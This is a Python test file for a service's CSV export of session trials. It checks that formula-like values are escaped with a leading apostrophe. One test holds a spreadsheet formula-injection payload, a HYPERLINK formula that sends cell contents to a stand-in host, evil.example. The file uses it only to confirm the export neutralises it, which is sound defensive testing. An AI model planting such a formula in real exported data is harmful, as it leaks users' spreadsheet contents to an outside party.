"""A session's trials as a table that a spreadsheet opens."""

from __future__ import annotations

import csv
import io
from typing import Any

import pytest
from lutra_service.api.sessions.schemas import TrialAnswer
from lutra_service.api.sessions.sessions import trials_csv

from tests.support.service.hosted import Agent, Service

EMPTY = {
    "trial": 1,
    "recommendation": "rec_1",
    "state": "failed",
    "origin": "current",
    "configuration": None,
    "changes": [],
    "reasons": [],
    "predictions": {},
    "measured": None,
    "ended_early": None,
    "spent_s": None,
    "failed": None,
    "memory": None,
    "curve": [],
}


def row(**fields: Any) -> dict[str, str]:
    """One trial's line, as a spreadsheet reads it."""
    table = b"".join(trials_csv(lambda: [TrialAnswer.model_validate({**EMPTY, **fields})]))
    return next(csv.DictReader(io.StringIO(table.decode(), newline="")))


def test_what_an_agent_wrote_is_no_formula_in_the_table(service: Service, agent: Agent, database: str) -> None:
    agent.send()
    body = {"objective": {"metric": "qps", "goal": "maximize"}, "mode": "lab", "approval": "automatic"}
    session = service.take("POST", f"/v1/databases/{database}/sessions", body)["id"]
    directive = agent.next_directive()
    attack = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    outcome = agent.outcome(directive, "applied")
    agent.send(agent.report(outcomes=[outcome], measures=directive["id"], failure=attack))
    response = service.ask("GET", f"/v1/sessions/{session}/trials?format=csv")
    assert response.headers["content-type"].startswith("text/csv")
    first = next(csv.DictReader(io.StringIO(response.text)))
    assert first["failed"] == "'" + attack


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r", "\n", "  ="])
def test_no_text_begins_like_a_formula(start: str) -> None:
    found = row(failed=f"{start}1+1", configuration={"mode": f"{start}cmd", "level": -5, "cost": -0.5})
    assert found["failed"] == f"'{start}1+1"
    assert found["setting.mode"] == f"'{start}cmd"
    assert (found["setting.level"], found["setting.cost"]) == ("-5", "-0.5")


def test_other_texts_and_numbers_stay_as_they_are() -> None:
    found = row(failed="the driver's last word: -1", measured={"qps": 5.5, "p99_source": "driver"})
    assert found["failed"] == "the driver's last word: -1"
    assert (found["measured.qps"], found["measured.p99_source"]) == ("5.5", "driver")
